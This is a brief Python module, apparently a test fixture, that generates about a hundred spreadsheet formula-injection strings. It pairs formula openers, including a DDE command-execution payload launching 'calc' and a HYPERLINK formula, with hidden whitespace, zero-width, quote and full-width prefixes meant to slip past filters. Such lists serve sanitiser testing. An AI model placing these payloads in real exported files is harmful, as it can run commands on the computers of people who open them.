"""A hundred texts that a spreadsheet might run: five ways to begin a formula, hidden in every way we know of."""

from __future__ import annotations

from itertools import product

_STARTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    '=HYPERLINK("http://contoh.id";"klik")',
    "|calc",
    "%0A=1",
    "=cmd|' /C calc'!A0",
)
_HIDDEN = ("", " ", "\t", "\r", "\n", '"', "'", " \"'", "\u200b", "\ufeff", "\u00a0", "\u201c")
_FULL_WIDTH = ("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " \uff1d1", "\uff5ccalc", "\uff05x")

PAYLOADS = tuple(dict.fromkeys([*(hidden + start for hidden, start in product(_HIDDEN, _STARTS)), *_FULL_WIDTH]))
